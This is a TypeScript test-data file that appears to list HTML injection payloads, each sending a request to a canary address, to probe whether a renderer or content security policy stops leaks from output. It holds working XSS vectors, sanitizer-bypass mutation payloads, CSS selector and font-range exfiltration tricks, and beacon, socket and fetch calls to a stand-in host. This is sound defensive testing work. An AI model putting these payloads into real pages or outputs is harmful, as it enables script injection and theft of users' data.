import type { Wall } from './attack-record.ts';

/**
 * Attacks of one kind by HTML in an output. `§` stands for an address of the canary that is the way's own, `§§` for the
 * same without its scheme.
 */
export interface HtmlAttack {
  readonly attack: string;
  readonly wall: Wall;
  /** HTML by the name of the way. */
  readonly ways: Readonly<Record<string, string>>;
}

const SEND = 'fetch(`§`)';
const DOT = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/** Each way asks for its address by itself, or when whatever can be clicked in it is clicked. */
export const HTML_ATTACKS: readonly HtmlAttack[] = [
  {
    attack: 'scripts in HTML',
    wall: 'renderer',
    ways: {
      inline: `<script>${SEND}</script>`,
      remote: '<script src="§"></script>',
      module: `<script type="module">${SEND}</script>`,
      'in-svg': `<svg><script>${SEND}</script></svg>`,
      'in-a-frame': `<iframe srcdoc="<script>${SEND}</script>"></iframe>`,
      'frame-of-javascript': `<iframe src="javascript:${SEND}"></iframe>`,
      'object-of-html': `<object data="data:text/html,<script>${SEND}</script>"></object>`,
      'embed-of-svg': `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${SEND}</script></svg>">`,
      'shadow-tree': `<div><template shadowrootmode="open"><img src=x onerror="${SEND}"></template></div>`,
    },
  },
  {
    attack: 'event handlers in HTML',
    wall: 'renderer',
    ways: {
      'img-error': `<img src="data:," onerror="${SEND}">`,
      'svg-load': `<svg onload="${SEND}"></svg>`,
      'body-load': `<body onload="${SEND}">`,
      'details-toggle': `<details open ontoggle="${SEND}">x</details>`,
      'animation-begin': `<svg><animate onbegin="${SEND}" attributeName="x" dur="1s"/></svg>`,
      'video-error': `<video src="data:," onerror="${SEND}"></video>`,
      'source-error': `<video><source src="data:," onerror="${SEND}"></video>`,
      'input-focus': `<input autofocus onfocus="${SEND}">`,
      'style-load': `<style onload="${SEND}"></style>`,
      'frame-load': `<iframe onload="${SEND}"></iframe>`,
      'css-animation': `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${SEND}">x</p>`,
      'popover-toggle': `<button popovertarget="p">x</button><p id="p" popover ontoggle="${SEND}">y</p>`,
      click: `<a onclick="${SEND}">x</a>`,
      'unclosed-tag': `<img src=data:, onerror=${SEND} `,
      'slash-for-space': `<img/src="data:,"/onerror="${SEND}">`,
    },
  },
  {
    attack: 'links of javascript:, also spelled and animated, and of data:',
    wall: 'renderer',
    ways: {
      plain: `<a href="javascript:${SEND}">x</a>`,
      'tab-within': `<a href="java&#9;script:${SEND}">x</a>`,
      entities: `<a href="&#106;avascript&colon;${SEND}">x</a>`,
      'control-before': `<a href="&#1;javascript:${SEND}">x</a>`,
      'svg-link': `<svg width="90" height="90"><a xlink:href="javascript:${SEND}"><text y="20">x</text></a></svg>`,
      'mathml-link': `<math><mtext><a href="javascript:${SEND}">x</a></mtext></math>`,
      'animated-link': `<svg width="90" height="90"><a><set attributeName="href" to="javascript:${SEND}"/><text y="20">x</text></a></svg>`,
      'data-in-a-frame': `<iframe name="f"></iframe><a target="f" href="data:text/html,<script>${SEND}</script>">x</a>`,
      form: `<form action="javascript:${SEND}"><button>x</button></form>`,
      formaction: `<form><button formaction="javascript:${SEND}">x</button></form>`,
    },
  },
  {
    attack: 'refresh, navigation of the frame and of the top, windows',
    wall: 'renderer',
    ways: {
      refresh: '<meta http-equiv="refresh" content="0;url=§">',
      'link-in-place': '<a href="§">x</a>',
      'link-to-the-top': '<a href="§" target="_top">x</a>',
      'link-to-a-window': '<a href="§" target="_blank">x</a>',
      'link-that-pings': '<a href="#" ping="§">x</a>',
      'map-of-links': `<img usemap="#m" src="${DOT}" width="9" height="9"><map name="m"><area shape="default" href="§"></map>`,
      'form-that-sends': '<form action="§"><button>x</button></form>',
      'button-that-sends-elsewhere': '<form action="#"><button formaction="§">x</button></form>',
      'form-from-outside': '<form id="f" action="§"></form><button form="f">x</button>',
      'script-to-the-top': '<script>top.location = `§`</script>',
      'script-that-opens': '<a onclick="window.open(`§`)">x</a>',
      'link-with-attribution': '<a href="§" attributionsrc="§">x</a>',
    },
  },
  {
    attack: 'preconnect, prefetch, preload, sheets and icons',
    wall: 'renderer',
    ways: {
      preconnect: '<link rel="preconnect" href="https://preconnect.invalid/">',
      prefetch: '<link rel="prefetch" href="§">',
      preload: '<link rel="preload" as="image" href="§">',
      'preload-of-a-font': '<link rel="preload" as="font" crossorigin href="§">',
      modulepreload: '<link rel="modulepreload" href="§">',
      stylesheet: '<link rel="stylesheet" href="§">',
      'alternate-sheet': '<link rel="alternate stylesheet" title="x" href="§">',
      'imported-map-of-scripts': '<script type="module">import "§"</script>',
    },
  },
  {
    attack: 'WebRTC, workers and sockets from a script in HTML',
    wall: 'renderer',
    ways: {
      webrtc: `<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] }).createDataChannel('x'); ${SEND}</script>`,
      'web-socket': '<script>new WebSocket(`§`.replace("http", "ws"))</script>',
      'event-source': '<script>new EventSource(`§`)</script>',
      beacon: '<script>navigator.sendBeacon(`§`)</script>',
      'worker-of-a-blob': `<script>new Worker(URL.createObjectURL(new Blob(['fetch("§")'])))</script>`,
    },
  },
  {
    attack: 'nested frames, objects and pictures that are forms',
    wall: 'renderer',
    ways: {
      iframe: '<iframe src="§"></iframe>',
      'iframe-that-is-lazy': '<iframe loading="lazy" src="§"></iframe>',
      'frame-in-a-frame': '<iframe srcdoc="<img src=§>"></iframe>',
      object: '<object data="§"></object>',
      embed: '<embed src="§">',
      frameset: '<frameset><frame src="§"></frameset>',
      'input-of-a-picture': '<input type="image" src="§">',
    },
  },
  {
    attack: 'styles: @import, url(), image-set(), content, cursor, filters and fonts',
    wall: 'CSP',
    ways: {
      import: '<style>@import "§";</style>',
      'import-in-a-layer': '<style>@import url("§") layer(a) supports(color: red);</style>',
      background: '<p style="background:url(§)">x</p>',
      'background-in-a-sheet': '<style>p{background-image:url("§")}</style><p>x</p>',
      'image-set': '<p style="background:image-set(url(§) 1x)">x</p>',
      'webkit-image-set': '<p style="background:-webkit-image-set(url(§) 1x)">x</p>',
      'cross-fade': '<p style="background:-webkit-cross-fade(url(§), url(§), 50%)">x</p>',
      content: '<style>p::before{content:url(§)}</style><p>x</p>',
      'list-item': '<ul style="list-style-image:url(§)"><li>x</ul>',
      border: '<p style="border:9px solid;border-image:url(§) 30">x</p>',
      mask: '<p style="mask-image:url(§)">x</p>',
      shape: '<p style="float:left;shape-outside:url(§)">x</p>',
      'filter-elsewhere': '<p style="filter:url(§#f)">x</p>',
      'clip-elsewhere': '<p style="clip-path:url(§#f)">x</p>',
      font: '<style>@font-face{font-family:f;src:url(§)}p{font-family:f}</style><p>x</p>',
      'escaped-letters': '<style>p{background:\\75\\72\\6c(§)}</style><p>x</p>',
      variable: '<style>p{--u:url(§);background:var(--u)}</style><p>x</p>',
      'nested-rules': '<style>body{& p{background:url(§)}}</style><p>x</p>',
      'in-svg': '<svg><style>rect{fill:url(§#f)} svg{background:url(§)}</style><rect width="9" height="9"/></svg>',
    },
  },
  {
    attack: 'styles that tell what the page holds: selectors, ranges of fonts, containers',
    wall: 'CSP',
    ways: {
      attribute: '<style>[title^=s]{background:url(§)}</style><p title="secret">x</p>',
      has: '<style>body:has([title$=t]){background:url(§)}</style><p title="secret">x</p>',
      'range-of-a-font':
        '<style>@font-face{font-family:f;src:url(§);unicode-range:U+73}p{font-family:f}</style><p>s</p>',
      'width-of-a-box':
        '<style>@container (min-width:1px){i{background:url(§)}}</style><p style="container-type:inline-size"><i>x</i></p>',
      'media-query': '<style>@media (min-width:1px){p{background:url(§)}}</style><p>x</p>',
      hover: '<style>a:active,a:focus{background:url(§)}</style><a href="#" tabindex="0">x</a>',
      target: '<style>:target{background:url(§)}</style><a href="#t">x</a><p id="t">y</p>',
      print:
        '<style>@media print{p{background:url(§)}} @media screen{p{list-style:url(§);display:list-item}}</style><p>x</p>',
    },
  },
  {
    attack: 'pictures, films and sounds from elsewhere in HTML',
    wall: 'renderer',
    ways: {
      img: '<img src="§">',
      'img-that-is-lazy': '<img loading="lazy" src="§">',
      'address-without-a-scheme': '<img src="//§§">',
      srcset: '<img srcset="§ 1x">',
      'picture-source': `<picture><source srcset="§"><img src="${DOT}"></picture>`,
      'video-poster': '<video poster="§"></video>',
      'video-source': '<video src="§" preload="auto"></video>',
      'audio-source': '<audio preload="auto"><source src="§"></audio>',
      'table-background': '<table background="§"><tr><td>x</table>',
      'svg-image': '<svg><image href="§"/></svg>',
      'svg-image-of-old': '<svg><image xlink:href="§"/></svg>',
      'svg-filter':
        '<svg><filter id="f"><feImage href="§"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
      'svg-animated': '<svg><image width="9" height="9"><set attributeName="href" to="§"/></image></svg>',
      'svg-foreign':
        '<svg width="9" height="9"><foreignObject width="9" height="9"><img src="§"></foreignObject></svg>',
    },
  },
  {
    attack: 'base, changed meanings after a second parse, names that shadow the document’s own',
    wall: 'renderer',
    ways: {
      base: '<base href="§"><img src="x">',
      'math-and-style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${SEND}&gt;"></table></mtext></math><img src=data:, onerror=${SEND}>`,
      noscript: `<noscript><p title="</noscript><img src=data:, onerror=${SEND}>"></noscript><img src=data:, onerror=${SEND}>`,
      'svg-desc': `<svg></p><desc><style><a id="</style><img src=data:, onerror=${SEND}>"></a></style></desc></svg>`,
      template: `<template><style></template><img src=data:, onerror=${SEND}></style></template><img src=data:, onerror=${SEND}>`,
      'processing-instruction': `<?xml ><img src=data:, onerror=${SEND}> ?>`,
      cdata: `<svg><![CDATA[><img src=data:, onerror=${SEND}>]]></svg><img src=data:, onerror=${SEND}>`,
      clobbering: `<form id="attributes"><input name="nodeName"></form><form><input name="attributes"><input name="parentNode"><img src=data:, onerror=${SEND}></form>`,
      'custom-element': `<x-y is="a" tabindex="1" autofocus onfocus="${SEND}">x</x-y>`,
      'end-of-the-title': `<title></title><img src=data:, onerror=${SEND}></title>`,
    },
  },
];
